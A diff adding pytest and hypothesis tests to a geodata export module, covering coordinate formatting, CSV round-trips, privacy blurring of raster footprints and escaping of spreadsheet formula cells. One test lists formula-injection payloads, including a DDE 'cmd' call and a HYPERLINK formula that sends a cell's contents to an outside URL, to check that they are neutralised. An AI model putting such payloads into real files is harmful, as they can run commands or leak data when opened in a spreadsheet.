@@ -3,11 +3,14 @@
 import csv
 import io
 import json
+import re
 from datetime import UTC, datetime
 from pathlib import Path
 from xml.etree import ElementTree
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from placelens.errors import InputError, QueryError
 from placelens.export import FORMATS, dump, export, guess_format
@@ -98,6 +101,68 @@ def test_csv_of_hits_keeps_terms_and_names_apart() -> None:
     assert row["score"] == "0.5"
     assert row["attr_Score"] == "5"  # a hit has a score already, letter case aside
     assert json.loads(row["terms"])[1]["label"] == "dome"
+
+
+# GPX 1.1's xsd:decimal, and what its latitudeType and longitudeType allow.
+XSD_DECIMAL = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")
+TINY = st.sampled_from([-1e-05, 1e-7, -0.0, 5e-324, 1e-300, 180.0, -180.0])
+
+
+@given(TINY.filter(lambda v: abs(v) <= 90) | st.floats(-90, 90), TINY | st.floats(-180, 180))
+def test_gpx_kml_and_csv_write_degrees_without_exponents(lat: float, lon: float) -> None:
+    item = Item(id="a", place=Place(lat=lat, lon=lon))
+    waypoint = ElementTree.fromstring(written([item], "gpx"))[0]
+    for name, value, most in (("lat", lat, 90), ("lon", lon, 180)):
+        text = waypoint.get(name) or ""
+        assert XSD_DECIMAL.fullmatch(text)
+        assert -most <= float(text) <= most
+        assert float(text) == (-180 if (name, value) == ("lon", 180) else value)  # GPX: below 180
+    mark = ElementTree.fromstring(written([item], "kml"))
+    texts = (mark.findtext(".//{*}coordinates") or "").split(",")
+    assert all(map(XSD_DECIMAL.fullmatch, texts))
+    assert [float(text) for text in texts] == [lon, lat]
+    (row,) = csv.DictReader(io.StringIO(written([item], "csv").decode()))
+    assert all(map(XSD_DECIMAL.fullmatch, (row["lat"], row["lon"])))
+    assert (float(row["lat"]), float(row["lon"])) == (lat, lon)
+    for name in ("json", "geojson"):  # exponents are JSON
+        assert json.loads(written([item], name))
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1",
+     '=HYPERLINK("http://a.org?x="&A1,"open")'],
+)  # fmt: skip
+def test_a_cell_that_a_spreadsheet_would_run(text: str) -> None:
+    item = Item(id=text, text=text, attributes={"title": text, text: "a"})
+    (row,) = csv.DictReader(io.StringIO(written([item], "csv", csv_safe=True).decode(), newline=""))
+    assert [row["id"], row["text"], row["attr_title"], row[f"'{text}"]] == [f"'{text}"] * 3 + ["a"]
+    cells = [cell for cell in (*row, *row.values()) if cell]
+    assert not [cell for cell in cells if cell[0] in "=+-@\t\r\n＝＋－＠"]
+    # By default a text comes back as it was.
+    (row,) = csv.DictReader(io.StringIO(written([item], "csv").decode(), newline=""))
+    assert row["text"] == text
+
+
+@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), min_size=1), min_size=1))
+def test_any_text_comes_back_from_csv(texts: list[str]) -> None:
+    items = [Item(id=str(number), text=text) for number, text in enumerate(texts)]
+    data = written(items, "csv")
+    rows = csv.DictReader(io.StringIO(data.decode(), newline=""))
+    assert [row["text"] for row in rows] == texts
+
+
+def test_numbers_and_other_texts_are_left_alone_in_a_safe_csv() -> None:
+    attributes = {"a": -5, "b": -0.5, "c": "-5", "d": "+49,5", "e": "a = b", "f": "'quoted"}
+    item = Item(id="x", place=Place(lat=-33.25, lon=-70.5), attributes=attributes)
+    safe = written([item], "csv", csv_safe=True)
+    assert safe == written([item], "csv")
+    assert b"-33.25,-70.5" in safe
+
+
+def test_safe_csv_is_refused_for_other_formats() -> None:
+    with pytest.raises(InputError, match=r"csv_safe .* is for csv, and json runs nothing"):
+        written(ITEMS, "json", csv_safe=True)
 
 
 def test_geojson_is_lon_lat_with_null_for_no_place() -> None:
@@ -243,6 +308,15 @@ def test_blurred_places_say_so_and_hide_distances() -> None:
     assert (record["place_blur_m"], record["distance_m"], record["terms"]) == (1000.0, None, [])
     assert (nowhere["lat"], nowhere["place_blur_m"]) == (None, None)
     assert b"position blurred to 1.0 km" in written(HITS, "kml", blur="1km")
+
+
+@pytest.mark.parametrize("privacy", [{"blur": "10km"}, {"drop_places": True}])
+def test_the_footprint_of_a_raster_is_hidden_with_its_place(privacy: dict[str, object]) -> None:
+    bounds = {"footprint_west": 14.0, "footprint_east": 16.0, "footprint": "kept"}
+    item = Item(id="a", place=Place(lat=50.0, lon=15.0), attributes=bounds)
+    (record,) = json.loads(written([item], "json", **privacy))
+    assert record["attributes"] == {"footprint": "kept"}
+    assert json.loads(written([item], "json"))[0]["attributes"] == bounds
 
 
 def test_a_plane_is_blurred_in_metres() -> None:
